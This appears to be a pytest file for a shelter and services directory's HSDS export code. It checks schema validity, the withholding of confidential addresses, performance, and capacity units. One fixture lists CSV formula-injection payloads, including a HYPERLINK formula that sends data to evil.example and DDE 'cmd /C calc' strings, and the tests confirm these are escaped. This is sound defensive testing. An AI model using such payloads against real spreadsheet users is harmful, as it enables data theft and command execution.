"""Exports: valid HSDS, complete, and never a confidential address."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import time
import tracemalloc
import uuid
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from plainsight.directory import exporting, hsds, importing, models
from plainsight.directory.tests import factories
from plainsight.directory.tests.conftest import SECRET_STREET, assert_no_secret, validate
from plainsight.directory.tests.files import zipped

pytestmark = pytest.mark.django_db


def test_json_export_of_services_validates(spec_examples, shelter):
    stream = io.StringIO()
    assert exporting.export_json(stream, kind="service") == 2
    documents = json.loads(stream.getvalue())
    for document in documents:
        validate("service", document, profiled=False)
        validate("service", document)
    assert_no_secret(stream.getvalue())


def test_json_export_of_organizations_nests_their_services(spec_examples, shelter):
    stream = io.StringIO()
    exporting.export_json(stream, kind="organization")
    documents = json.loads(stream.getvalue())
    assert len(documents) == 2
    for document in documents:
        validate("organization", document)
        assert document["services"]
    assert_no_secret(stream.getvalue())


def test_empty_directory_exports_an_empty_list():
    stream = io.StringIO()
    assert exporting.export_json(stream) == 0
    assert json.loads(stream.getvalue()) == []


def test_csv_package_has_every_hsds_file_with_schema_columns(tmp_path, spec_examples):
    names = exporting.export_csv_package(tmp_path / "pkg")
    assert sorted(names) == sorted(s.csv_name for s in hsds.table_specs().values())
    with (tmp_path / "pkg" / "services.csv").open(encoding="utf-8") as handle:
        header = next(csv.reader(handle))
    schema_columns = [
        name
        for name, prop in hsds.load_schema("service.json")["properties"].items()
        if prop.get("type") not in ("array", None) and "$ref" not in prop
    ]
    assert header[: len(schema_columns)] == schema_columns
    assert "police_report_required" in header  # profile columns follow


def test_csv_package_withholds_confidential_locations(tmp_path, shelter):
    target = tmp_path / "pkg.zip"
    exporting.export_csv_package(target)
    with zipfile.ZipFile(target) as archive:
        everything = "".join(archive.read(name).decode() for name in archive.namelist())
        locations = list(csv.DictReader(io.StringIO(archive.read("locations.csv").decode())))
        addresses = archive.read("addresses.csv").decode().splitlines()
    assert_no_secret(everything)
    (row,) = locations
    assert row["confidential"] == "true" and row["latitude"] == "" and row["description"] == ""
    assert row["confidential_access_note"]
    assert len(addresses) == 1  # the header only
    assert models.Address.objects.count() == 1  # still kept in the directory


def test_csv_package_withholds_what_describes_a_confidential_address(tmp_path, shelter):
    """A term applied to a shelter's address, and the provenance of that term, are
    withheld with the address (as in the JSON, which never reaches them)."""
    attribute = factories.AttributeFactory.create(
        taxonomy_term=shelter.term,
        link_entity="address",
        link_id=shelter.address.pk,
        value="gate code 4471",
    )
    for resource in (shelter.address, attribute):
        models.Metadata.objects.create(
            resource_id=resource.pk,
            resource_type="attribute" if resource is attribute else "address",
            last_action_date=dt.date(2026, 1, 5),
            last_action_type="update",
            field_name="value" if resource is attribute else "address_1",
            previous_value=SECRET_STREET,
            replacement_value="gate code 4471",
            updated_by="Coordinator",
        )
    exporting.export_csv_package(tmp_path / "pkg")
    for path in (tmp_path / "pkg").iterdir():
        text = path.read_text(encoding="utf-8")
        assert_no_secret(text)
        assert "gate code 4471" not in text, path.name
        assert str(attribute.pk) not in text, path.name


def test_metadata_rows_are_checked_in_constant_time_whatever_is_withheld():
    """Each metadata row is looked up in the withheld ids; the sets were merged again
    for every row (minutes for a statewide directory with thousands of shelters)."""
    models.Metadata.objects.bulk_create(
        models.Metadata(
            resource_id=uuid.uuid4(),
            resource_type="service",
            last_action_date=dt.date(2026, 1, 5),
            last_action_type="update",
            field_name="name",
            updated_by="Coordinator",
        )
        for _ in range(1000)
    )

    def seconds(withheld: int) -> float:
        hidden = {
            "location": {uuid.uuid4() for _ in range(withheld)},
            "any": {uuid.uuid4() for _ in range(withheld)},
        }
        start = time.perf_counter()
        assert len(list(exporting.iter_table_rows("metadata", hidden))) == 1001
        return time.perf_counter() - start

    assert seconds(50_000) < 5 * seconds(0) + 0.5


def test_the_zip_package_is_written_as_it_is_read(tmp_path):
    """The zip holds no file in memory: its peak is the folder's (which streams), not
    that plus the largest file two or three times over (once as text, once as bytes)."""
    organization = factories.OrganizationFactory.create()
    description = "Atención en español, día y noche. " * 60  # 2,000 characters
    models.Service.objects.bulk_create(
        models.Service(
            organization=organization, name=f"Service {n}", description=description, status="active"
        )
        for n in range(3000)
    )

    def peak(target):
        tracemalloc.start()
        try:
            exporting.export_csv_package(target)
            return tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    folder = peak(tmp_path / "pkg")
    largest = (tmp_path / "pkg" / "services.csv").stat().st_size
    assert largest > 6_000_000
    assert peak(tmp_path / "pkg.zip") < folder + largest // 2
    with zipfile.ZipFile(tmp_path / "pkg.zip") as archive:
        assert archive.read("services.csv") == (tmp_path / "pkg" / "services.csv").read_bytes()
        assert archive.getinfo("services.csv").date_time[0] > 1980  # dated, as before


# Texts a spreadsheet would run as formulas (OWASP "CSV Injection"), and texts that start
# with the same signs but run nothing, each as the CSV cell the package must hold.
FORMULAS = {
    '=HYPERLINK("https://evil.example/?"&A2,"Open")': (
        '\'=HYPERLINK("https://evil.example/?"&A2,"Open")'
    ),
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "'=1+1 (quoted already)": "''=1+1 (quoted already)",
    "- Food, clothing": "'- Food, clothing",
}


@pytest.fixture
def formulas(db):
    """A service whose texts are the formulas above, and values that only look so."""
    organization = factories.OrganizationFactory.create(name="Línea de ayuda 🙂")
    texts = list(FORMULAS)
    service = factories.ServiceFactory.create(
        organization=organization,
        name=texts[0],
        alternate_name=texts[1],
        description=texts[2],
        eligibility_description=texts[3],
        application_process=texts[4],
        fees_description=texts[5],
        accreditations=texts[6],
        alert=texts[7],
    )
    location = factories.LocationFactory.create(organization=organization, longitude=-118.987)
    factories.ServiceAtLocationFactory.create(service=service, location=location)
    factories.PhoneFactory.create(service=service, number="+1 (661) 555-0199", description="-1")
    factories.ScheduleFactory.create(service=service, freq="MONTHLY", byday="-1FR")
    return service


def test_csv_cells_a_spreadsheet_would_run_are_escaped(tmp_path, formulas):
    exporting.export_csv_package(tmp_path / "pkg")

    def rows(name):
        with (tmp_path / "pkg" / name).open(encoding="utf-8", newline="") as handle:
            return list(csv.DictReader(handle))

    (service,) = rows("services.csv")
    cells = [service[name] for name in ("name", "alternate_name", "description")]
    cells += [service[name] for name in ("eligibility_description", "application_process")]
    cells += [service[name] for name in ("fees_description", "accreditations", "alert")]
    assert cells == list(FORMULAS.values())
    # What starts with a sign but runs nothing is written as it is: numbers, phone
    # numbers and HSDS's (RFC 5545's) days of a month.
    assert rows("organizations.csv")[0]["name"] == "Línea de ayuda 🙂"
    assert rows("locations.csv")[0]["longitude"] == "-118.987"
    (phone,) = rows("phones.csv")
    assert (phone["number"], phone["description"]) == ("+1 (661) 555-0199", "-1")
    assert rows("schedules.csv")[0]["byday"] == "-1FR"


def test_escaped_cells_import_back_unchanged(tmp_path, formulas):
    exporting.export_csv_package(tmp_path / "pkg.zip")
    report = importing.run_import(
        [(tmp_path / "pkg.zip", "pkg.zip")], file_format=models.ImportFormat.CSV
    )
    assert report.ok, [str(p) for p in report.errors]
    assert not report.created and not report.updated and not report.removed
    service = models.Service.objects.get(pk=formulas.pk)
    assert service.name == '=HYPERLINK("https://evil.example/?"&A2,"Open")'
    assert service.accreditations == "'=1+1 (quoted already)"
    assert service.application_process == "\t=1+1"


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r 1(a|!,FRMO")) | st.text())
def test_every_text_reads_back_exactly_and_no_cell_starts_a_formula(text):
    cell = hsds.spreadsheet_safe(text)
    assert hsds.from_spreadsheet_safe(cell) == text
    if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
        assert not any(c.isalpha() and c not in "MOTUWEHFRSA" for c in cell), cell
        assert not set(cell) & set("=@|!\"'&:$\t\r"), cell


def test_reimporting_the_csv_package_keeps_what_describes_a_confidential_address(tmp_path, shelter):
    attribute = factories.AttributeFactory.create(
        taxonomy_term=shelter.term, link_entity="address", link_id=shelter.address.pk
    )
    exporting.export_csv_package(tmp_path / "pkg")
    report = importing.run_import([(tmp_path / "pkg", "pkg")], file_format=models.ImportFormat.CSV)
    assert report.ok, [str(p) for p in report.errors]
    assert not report.removed
    assert models.Attribute.objects.filter(pk=attribute.pk).exists()


@pytest.mark.parametrize("file_name", ["export.json", "export"])
def test_reimporting_an_export_keeps_a_schedule_on_its_locations_time_zone(tmp_path, file_name):
    location = factories.LocationFactory.create(iana_timezone="America/Los_Angeles")
    factories.ScheduleFactory.create(service=None, location=location, iana_timezone="")
    target = tmp_path / file_name
    if file_name.endswith(".json"):
        with target.open("w", encoding="utf-8") as stream:
            exporting.export_json(stream, kind="organization")
        file_format = models.ImportFormat.JSON
    else:
        exporting.export_csv_package(target)
        file_format = models.ImportFormat.CSV
    report = importing.run_import([(target, file_name)], file_format=file_format)
    assert report.ok, [str(p) for p in report.errors]
    assert not report.updated  # the offset of today's daylight saving was stored
    assert models.Schedule.objects.get().timezone is None


# --- A capacity whose unit the directory does not hold ----------------------------------

ORGANIZATION_ID = "d9d5e0f5-d3ce-4f73-9a2f-4dd0ecc6c610"
SERVICE_ID = "ac148810-d857-441c-9679-408f346de14b"
CAPACITY_ID = "8896b788-7b3e-11ef-8db9-7f3d040352b3"
UNIT_NOT_HELD = "187a37a2-7b40-11ef-9790-dbf7623d4407"  # as in HSDS 3.1's CSV example


@pytest.fixture
def capacity_in_a_unit_not_held(db):
    """A shelter's beds, imported from a package whose units.csv lacks their unit (the
    import keeps the capacity, and the unit's id waits for the unit)."""
    package = {
        "organizations.csv": f"id,name,description\n{ORGANIZATION_ID},Alliance,Shelter\n",
        "services.csv": (
            f"id,organization_id,name,status\n{SERVICE_ID},{ORGANIZATION_ID},Beds,active\n"
        ),
        "service_capacity.csv": (
            "id,service_id,unit_id,available,maximum,description,updated\n"
            f"{CAPACITY_ID},{SERVICE_ID},{UNIT_NOT_HELD},12,20,Shelter beds,2026-01-05T10:00:00Z\n"
        ),
    }
    report = importing.run_import(
        [(zipped(package), "package.zip")], file_format=models.ImportFormat.CSV
    )
    assert report.ok, [str(p) for p in report.errors]
    assert [(p.code, p.field) for p in report.warnings] == [("soft_missing_reference", "unit_id")]
    capacity = models.ServiceCapacity.objects.get()
    assert capacity.unit is None and capacity.unresolved_links == {"unit_id": UNIT_NOT_HELD}
    return capacity


def _exported_json(kind: str) -> list[dict]:
    stream = io.StringIO()
    exporting.export_json(stream, kind=kind)
    documents: list[dict] = json.loads(stream.getvalue())
    return documents


@pytest.mark.parametrize("kind", ["service", "organization"])
def test_the_json_export_keeps_a_capacity_whose_unit_is_not_held(capacity_in_a_unit_not_held, kind):
    """HSDS's JSON requires a capacity's unit: the capacity is written with the unit as
    far as it is known (its id as given, named as unknown), never left out."""
    (document,) = _exported_json(kind)
    validate(kind, document, profiled=False)
    validate(kind, document)
    service = document if kind == "service" else document["services"][0]
    (capacity,) = service["capacities"]
    assert capacity["id"] == CAPACITY_ID
    assert (capacity["available"], capacity["maximum"]) == (12, 20)
    assert capacity["unit_id"] == UNIT_NOT_HELD
    assert capacity["unit"] == {
        "id": UNIT_NOT_HELD,
        "name": "unknown unit",
        "scheme": "PlainSight",
        "identifier": "unknown",
    }


def test_the_csv_package_keeps_a_capacity_whose_unit_is_not_held(
    tmp_path, capacity_in_a_unit_not_held
):
    """The same capacity, with the same unit id; no unit row is made up for it."""
    exporting.export_csv_package(tmp_path / "pkg")
    with (tmp_path / "pkg" / "service_capacity.csv").open(encoding="utf-8") as handle:
        (row,) = list(csv.DictReader(handle))
    assert (row["id"], row["service_id"], row["unit_id"]) == (
        CAPACITY_ID,
        SERVICE_ID,
        UNIT_NOT_HELD,
    )
    assert (row["available"], row["maximum"]) == ("12", "20")
    assert (tmp_path / "pkg" / "units.csv").read_text().splitlines() == [
        "id,name,scheme,identifier,uri"
    ]


@pytest.mark.parametrize("kind", ["service", "organization"])
def test_reimporting_the_json_export_loses_no_capacity_and_invents_no_unit(
    tmp_path, capacity_in_a_unit_not_held, kind
):
    """A service lists all its capacities: an export that left one out removed it from
    any directory the export was imported into, this one included."""
    target = tmp_path / "export.json"
    target.write_text(json.dumps(_exported_json(kind)), encoding="utf-8")
    report = importing.run_import([(target, "export.json")], file_format=models.ImportFormat.JSON)
    assert report.ok, [str(p) for p in report.errors]
    assert not report.created and not report.updated and not report.removed
    capacity = models.ServiceCapacity.objects.get()
    assert capacity.unit is None and capacity.unresolved_links == {"unit_id": UNIT_NOT_HELD}
    assert not models.Unit.objects.exists()


def test_every_capacity_is_exported_whatever_its_unit(tmp_path, capacity_in_a_unit_not_held):
    """Beds counted by staff (in the directory's own unit) and beds in a unit not held
    are both in both exports, which stay valid."""
    bed = models.Unit.objects.create(name="bed", scheme="PlainSight")
    models.ServiceCapacity.objects.create(
        service_id=SERVICE_ID, unit=bed, available=3, updated=dt.datetime.now(dt.UTC)
    )
    (document,) = _exported_json("service")
    validate("service", document, profiled=False)
    units = sorted(c["unit"]["name"] for c in document["capacities"])
    assert units == ["bed", "unknown unit"]
    exporting.export_csv_package(tmp_path / "pkg")
    with (tmp_path / "pkg" / "service_capacity.csv").open(encoding="utf-8") as handle:
        assert {row["unit_id"] for row in csv.DictReader(handle)} == {str(bed.pk), UNIT_NOT_HELD}
